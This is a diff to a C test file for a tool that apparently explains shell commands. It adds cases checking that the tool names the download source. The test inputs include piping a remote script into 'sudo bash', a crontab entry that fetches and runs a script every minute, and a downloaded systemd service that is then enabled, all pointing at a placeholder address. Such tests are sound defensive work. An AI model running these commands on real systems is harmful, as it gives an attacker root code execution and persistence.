@@ -200,6 +200,14 @@ static void names_the_source(void)
 	NEVER_SAYS("pip install -i https://pypi.org/simple x", "system.packages-other-index");
 	NEVER_SAYS("pip install -r requirements.txt", "Removes");
 	SAYS("pip install -r requirements.txt", "listed in the file requirements.txt");
+	SAYS("curl -fsSL http://203.0.113.9/install.sh | sudo bash",
+	     "with curl (from http://203.0.113.9/install.sh, an address that is not encrypted)");
+	SAYS("(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x.sh | bash') | crontab -",
+	     "from http://203.0.113.9/x.sh");
+	SAYS("wget -qO /etc/systemd/system/update.service http://203.0.113.9/u.service && "
+	     "systemctl enable --now update.service",
+	     "Downloads a file from the network (http://203.0.113.9/u.service) straight into "
+	     "/etc/systemd/system/update.service");
 }
 
 int main(int argc, char **argv)
